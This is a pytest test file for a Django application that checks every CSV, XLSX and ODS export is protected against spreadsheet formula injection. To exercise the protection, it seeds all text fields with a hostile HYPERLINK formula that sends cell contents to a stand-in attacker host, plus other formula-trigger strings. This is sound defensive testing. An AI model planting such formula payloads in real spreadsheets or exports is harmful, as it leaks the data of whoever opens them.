"""No export carries a live formula (OWASP « CSV injection »): every list page, found through the
URL resolver, is exported in every spreadsheet format with a hostile text in every text field of
every row, and no cell may start a formula — CSV cells get a leading `'`, XLSX and ODS cells are
text cells. The one-off spreadsheets (offer analysis, rejected import rows) are checked too."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.apps import apps
from django.contrib.auth import get_user_model
from django.db import models
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from odf.namespaces import TABLENS
from odf.opendocument import load as odf_load
from odf.table import TableCell

from gouvernail.core.choices import Role
from gouvernail.core.exports import FORMULA_PREFIXES, export_cell, inert_workbook, is_formula_like
from gouvernail.core.views.generic import ObjectListView
from gouvernail.testing.factories.referentiel import make_referentiel

pytestmark = pytest.mark.django_db

# A ready-made attack: it opens a link (and, with DDE, a program) when the cell is evaluated.
HOSTILE = '=HYPERLINK("https://attaquant.example/?d="&A1;"Cliquez ici")'


def list_pages(patterns=None, namespace="") -> list[str]:
    """The URL name of every list page served (any `ObjectListView`), from the resolver itself."""
    found = []
    for pattern in patterns if patterns is not None else get_resolver().url_patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            found += list_pages(pattern.url_patterns, inner)
        elif isinstance(pattern, URLPattern) and pattern.name:
            view_class = getattr(pattern.callback, "view_class", None)
            if view_class and issubclass(view_class, ObjectListView) and not pattern.pattern.converters:
                found.append(f"{namespace}{pattern.name}")
    return sorted(set(found))


def hostile_text(old: str, index: int, max_length: int | None) -> str:
    """The row's own text behind a formula trigger (each trigger in turn), so unique fields stay unique."""
    prefix = FORMULA_PREFIXES[index % len(FORMULA_PREFIXES)]
    text = HOSTILE if prefix == "=" else f"{prefix}{old or 'SOMME(A1:A9)'}"
    if prefix == "=" and old:
        text = f"{HOSTILE} {old}"
    return text[:max_length] if max_length else text


def poison_every_text_field() -> None:
    """Every free-text field of every row of Gouvernail's models starts like a formula."""
    index = 0
    for model in apps.get_models():
        if not model.__module__.startswith("gouvernail.") or model._meta.proxy or not model._meta.managed:
            continue
        if model is get_user_model():  # accounts are not exported, and the test must still log in
            continue
        fields = [
            field
            for field in model._meta.concrete_fields
            if isinstance(field, (models.CharField, models.TextField))
            and not isinstance(field, models.SlugField)
            and not field.choices
            and not field.primary_key
        ]
        if not fields:
            continue
        for row in model._base_manager.all():
            for field in fields:
                setattr(row, field.attname, hostile_text(getattr(row, field.attname), index, field.max_length))
                index += 1
            # No save(): the journal, the hash chain and the model's checks stay out of this.
            model._base_manager.filter(pk=row.pk).update(**{f.attname: getattr(row, f.attname) for f in fields})


# Lists whose exported columns show no free text of the rows the referentiel makes (counts,
# amounts, dates and choices only; the register shows the recorded decisions, the factory's
# decision is not recorded).
WITHOUT_FREE_TEXT = {
    "collaboration:nextcloudsnapshot_list",
    "finance:financesettings_list",
    "finance:paymentcredit_list",
    "governance:decision_register",
}


@pytest.fixture
def poisoned(org):
    make_referentiel(org)
    poison_every_text_field()
    return org


def csv_cells(response, delimiter: str) -> list[str]:
    text = response.content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def xlsx_cells(response) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def ods_cells(response) -> list:
    document = odf_load(io.BytesIO(response.content))
    return document.spreadsheet.getElementsByType(TableCell)


def test_the_resolver_finds_every_list_page():
    names = list_pages()

    assert len(names) >= 40, names
    assert {"core:journalentry_list", "governance:decision_register", "inventory:equipment_list"} <= set(names)


def test_every_list_export_neutralises_a_formula_in_any_text_column(poisoned, client_for, subtests):
    carried = set()
    for name in list_pages():
        url = reverse(name)
        roles = (Role.ADMIN, Role.REFERENT_SI, Role.AUDITEUR)
        page_client = next(client_for(role) for role in roles if client_for(role).get(url).status_code == 200)
        for export_format in ("csv", "csv-excel", "xlsx", "ods"):
            with subtests.test(page=name, format=export_format):
                response = page_client.get(url, {"_export": export_format})
                assert response.status_code == 200
                if export_format.startswith("csv"):
                    cells = csv_cells(response, ";" if export_format == "csv-excel" else ",")
                    live = [cell for cell in cells if is_formula_like(cell)]
                    hostile = [cell for cell in cells if cell.startswith("'") and is_formula_like(cell[1:])]
                elif export_format == "xlsx":
                    cells = xlsx_cells(response)
                    live = [cell.value for cell in cells if cell.data_type == "f"]
                    hostile = [cell.value for cell in cells if is_formula_like(cell.value)]
                    assert all(cell.quotePrefix for cell in cells if is_formula_like(cell.value))
                else:
                    cells = ods_cells(response)
                    live = [str(cell) for cell in cells if cell.attributes.get((TABLENS, "formula"))]
                    hostile = [str(cell) for cell in cells if is_formula_like(str(cell))]
                    kinds = {cell.getAttribute("valuetype") for cell in cells if is_formula_like(str(cell))}
                    assert kinds <= {"string"}
                assert live == []
                if hostile:
                    carried.add(name)
    # Not vacuous: the hostile texts reached the export of every list that shows free text.
    assert set(list_pages()) - carried == WITHOUT_FREE_TEXT


def test_a_negative_amount_stays_a_number_while_a_text_gets_its_quote():
    assert export_cell(Decimal("-1250.50")) == Decimal("-1250.50")
    assert export_cell(-3) == -3
    assert export_cell("-3") == "'-3"
    assert [export_cell(f"{p}x") for p in ("=", "+", "-", "@", "\t", "\r")] == [
        "'=x",
        "'+x",
        "'-x",
        "'@x",
        "'\tx",
        "'\rx",
    ]
    assert export_cell("Ressources humaines") == "Ressources humaines"
    assert export_cell(" =déjà précédé d'une espace") == " =déjà précédé d'une espace"


def test_a_negative_amount_is_a_number_in_every_format(org, client_for):
    from gouvernail.testing.factories.vendors import make_contract, make_vendor

    make_contract(org, make_vendor(org, "-Avoir Ouest"), "2025-AV-01", annual_amount_ht=Decimal("-1250.50"))
    client = client_for(Role.ADMIN)

    standard = client.get("/contrats/", {"_export": "csv"}).content.decode()
    excel = client.get("/contrats/", {"_export": "csv-excel"}).content.decode("utf-8-sig")
    sheet = openpyxl.load_workbook(io.BytesIO(client.get("/contrats/", {"_export": "xlsx"}).content)).active

    assert ",-1250.50," in standard and "'-Avoir Ouest" in standard
    assert ";-1250,50;" in excel and "'-Avoir Ouest" in excel
    values = [cell.value for row in sheet.iter_rows(min_row=3) for cell in row]
    assert Decimal("-1250.5") in [Decimal(str(v)) for v in values if isinstance(v, (int, float))]
    assert "-Avoir Ouest" in values


def test_the_offer_analysis_workbook_holds_no_formula(poisoned, client_for):
    from gouvernail.vendors.models import Procurement

    procurement = Procurement.objects.get(organisation=poisoned)
    response = client_for(Role.ADMIN).get(f"/marches/{procurement.pk}/analyse.xlsx")

    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    assert any(is_formula_like(cell.value) for cell in cells)


def test_the_rejected_rows_of_an_import_keep_a_formula_as_text():
    from gouvernail.connectors.spreadsheet.rejects import rejects_workbook

    content = rejects_workbook(["Nom", "=Service"], [(3, ["=1+1", "@SOMME(A1)"], "+service inconnu")])

    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    assert [cell.value for cell in cells if cell.quotePrefix] == ["=Service", "=1+1", "@SOMME(A1)", "+service inconnu"]


def test_a_workbook_made_inert_keeps_its_numbers_and_texts():
    workbook = openpyxl.Workbook()
    workbook.active.append(["=1+1", -4, "Texte"])

    inert_workbook(workbook)

    a, b, c = workbook.active[1]
    assert (a.value, a.data_type, a.quotePrefix) == ("=1+1", "s", True)
    assert (b.value, b.data_type, b.quotePrefix) == (-4, "n", False)
    assert (c.value, c.quotePrefix) == ("Texte", False)
